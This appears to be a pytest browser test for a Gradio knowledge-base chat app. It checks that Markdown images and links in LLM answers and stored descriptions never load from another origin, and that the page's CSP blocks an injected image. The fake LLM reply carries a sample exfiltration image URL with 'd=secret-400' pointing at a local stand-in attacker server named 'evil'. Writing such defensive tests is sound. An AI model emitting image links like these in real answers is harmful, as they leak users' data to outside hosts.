"""No exfiltration through rendered answers (issue 27 #3), in a real browser (Debian Chromium via Playwright).

A scripted LLM (tests/fake_llm.py) answers with a Markdown image and a link pointing at another origin — a
counting HTTP server on 127.0.0.1 on a port of its own, standing in for an attacker's host — and a knowledge base
description carries another image. The page must load none of them (not on the answer, not on the replay after a
reload, not in the 知识库 tab), show the image as text with its host, keep the link as a link with the host
visible; and the Content-Security-Policy must stop an <img> injected into the page by script. The page itself
(Gradio 6 under our CSP) keeps working: the answer streams, citations are links.
"""
from __future__ import annotations

import shutil
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from tests.test_browser_e2e import CHROMIUM, _open_app
from tests.test_ui_chat import QUESTION, LiveUI, make_engine

pytestmark = pytest.mark.slow


class _Counter(BaseHTTPRequestHandler):
    def log_message(self, *a):  # quiet
        pass

    def do_GET(self):
        self.server.hits.append(self.path)
        body = b"GIF89a"
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@pytest.fixture
def other_origin():
    srv = ThreadingHTTPServer(("127.0.0.1", 0), _Counter)
    srv.hits = []
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    yield srv
    srv.shutdown()
    srv.server_close()


@pytest.mark.skipif(not Path(CHROMIUM).exists(), reason=f"{CHROMIUM} missing (apt-get install chromium)")
def test_answer_images_and_links_to_other_origins_are_not_loaded(tmp_path, fake_llm, other_origin):
    sync_api = pytest.importorskip("playwright.sync_api", reason="pip install playwright")
    evil = f"http://127.0.0.1:{other_origin.server_address[1]}"
    engine = make_engine(tmp_path / "data")
    engine.update_settings({"llm_api_url": fake_llm.base_url, "llm_model": "fake-model", "llm_api_key": "sk-t-01"})
    engine.reload()
    engine.update_kb(1, None, f"客服资料 ![d]({evil}/desc.gif?d=kb)")
    fake_llm.reply = (f"客服电话是 400-800-1234[1]。![x]({evil}/p.gif?d=secret-400) "
                      f"详见[官网]({evil}/click?d=1)。")
    live = LiveUI(engine)
    profile = tmp_path / "profile"
    violations: list[str] = []
    try:
        with sync_api.sync_playwright() as pw:
            ctx, page = _open_app(pw, profile, live.url)
            page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
            page.fill("#kb-question textarea", QUESTION)
            page.click("#kb-send")
            page.wait_for_selector("#kb-stage .kb-stage-done", timeout=180_000)
            bot = page.locator("#kb-chatbot .bot").last
            text = bot.inner_text()
            assert "400-800-1234" in text and "未加载：127.0.0.1" in text, text
            assert page.locator("#kb-chatbot a.kb-cite").count() >= 1  # the page under the CSP still works
            link = page.locator("#kb-chatbot a", has_text="官网")
            assert link.count() == 1 and "↗ 127.0.0.1" in text  # a link the user must click, host visible
            srcs = page.evaluate("() => [...document.querySelectorAll('img')].map(i => i.src)")
            assert not [s for s in srcs if evil in s], srcs
            # the replay after a reload (the conversation comes back from the server)
            page.reload()
            page.wait_for_function("() => (document.querySelector('#kb-chatbot')?.innerText || '')"
                                   ".includes('400-800-1234')", timeout=60_000)
            # the KB description (Markdown from stored data) in the 知识库 tab
            page.get_by_role("tab", name="知识库").click()
            page.wait_for_function("() => (document.querySelector('#kb-space-info')?.innerText || '')"
                                   ".includes('客服资料')", timeout=30_000)
            assert "未加载：127.0.0.1" in page.locator("#kb-space-info").inner_text()
            # the second layer: an <img> injected by script is blocked by the Content-Security-Policy
            page.evaluate("([u]) => { const i = document.createElement('img'); i.src = u;"
                          " document.body.appendChild(i); }", [f"{evil}/csp.gif"])
            page.wait_for_timeout(1500)
            ctx.close()
        assert other_origin.hits == [], other_origin.hits
        assert any("csp.gif" in v or "img-src" in v for v in violations), violations
        # Gradio's own page raised no violation (only our injected image did)
        assert all("csp.gif" in v or "img-src" in v for v in violations), violations
    finally:
        live.stop()
        engine.close()
        shutil.rmtree(profile, ignore_errors=True)


def test_security_headers_on_page_and_api(tmp_path):
    """CSP, nosniff, frame-ancestors / X-Frame-Options and Referrer-Policy on the page, the API and Gradio's API."""
    engine = make_engine(tmp_path / "data", with_doc=False)
    live = LiveUI(engine)
    try:
        with live.http() as http:
            for path in ("/", "/api/health", "/gradio_api/info", "/api/kb/nope"):
                h = http.get(path).headers
                csp = h.get("content-security-policy", "")
                assert "img-src 'self' data: blob:" in csp and "frame-ancestors 'self'" in csp, (path, csp)
                assert "default-src 'self'" in csp and "connect-src 'self'" in csp
                assert h.get("x-content-type-options") == "nosniff", path
                assert h.get("x-frame-options") == "SAMEORIGIN", path
                assert h.get("referrer-policy") == "no-referrer", path
    finally:
        live.stop()
        engine.close()
